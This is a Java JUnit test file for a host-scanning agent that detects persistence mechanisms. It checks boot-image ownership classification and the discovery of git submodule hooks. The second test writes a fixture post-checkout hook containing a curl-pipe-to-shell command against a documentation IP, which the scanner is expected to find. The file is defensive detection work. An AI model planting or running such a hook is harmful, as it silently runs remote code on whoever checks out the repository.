package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;

import bzh.vigie.agent.host.Machine;
import bzh.vigie.agent.host.offline.MountedLinux;
import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class OriginsTest {
    @TempDir
    private Path root;

    @Test
    void whatTheMachineMakesOfPackagesFilesIsUnknownAndWhatNobodyShippedIsUnowned() throws IOException {
        Trees.write(root, "/var/lib/dpkg/status", "");
        Trees.write(root, "/var/lib/dpkg/info/base.list", "/.\n/usr\n");
        Trees.write(root, "/boot/initrd.img-6.12.0", "made here");
        Trees.write(root, "/boot/vmlinuz-6.12.0", "of nobody");
        Map<String, Shipped> shipped = new TreeMap<>();
        try (Machine machine = MountedLinux.open(root).ifFound().orElseThrow()) {
            Scan.of(machine, Trees.CLOCK, "linux.boot.image"::equals, new Scan.Output() {
                @Override
                public void item(Item item) {
                    shipped.put(item.name(), item.shipped());
                }

                @Override
                public void place(Scan.Place place) {}
            });
        }
        assertEquals(
                Map.of("initrd.img-6.12.0", Shipped.UNKNOWN, "vmlinuz-6.12.0", Shipped.UNOWNED), Map.copyOf(shipped));
    }

    @Test
    void hooksOfASubmoduleAreRead() throws IOException {
        Trees.write(root, "/srv/app/.git/modules/lib/hooks/post-checkout", "#!/bin/sh\ncurl http://192.0.2.9 | sh\n");
        StringBuilder found = new StringBuilder();
        try (Machine machine = MountedLinux.open(root).ifFound().orElseThrow()) {
            Scan.of(machine, Trees.CLOCK, "linux.git.repository"::equals, new Scan.Output() {
                @Override
                public void item(Item item) {
                    found.append(item.source());
                }

                @Override
                public void place(Scan.Place place) {}
            });
        }
        assertEquals("/srv/app/.git/modules/lib/hooks/post-checkout", found.toString());
    }
}
